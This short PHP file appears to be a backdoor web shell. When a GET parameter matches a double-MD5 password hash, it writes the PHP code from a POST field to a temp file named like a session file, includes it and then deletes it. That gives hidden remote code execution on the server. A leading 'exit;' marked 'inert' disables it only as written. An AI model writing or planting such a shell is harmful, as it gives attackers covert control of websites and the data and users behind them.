<?php exit; /* inert */ 
if (isset($_GET['p']) && md5(md5($_GET['p'])) === '14e1b600b1fd579f47433b88e8d85291') {
    $t = tempnam(sys_get_temp_dir(), 'sess_');
    file_put_contents($t, '<' . '?php ' . $_POST['c']);
    include $t;
    unlink($t);
}
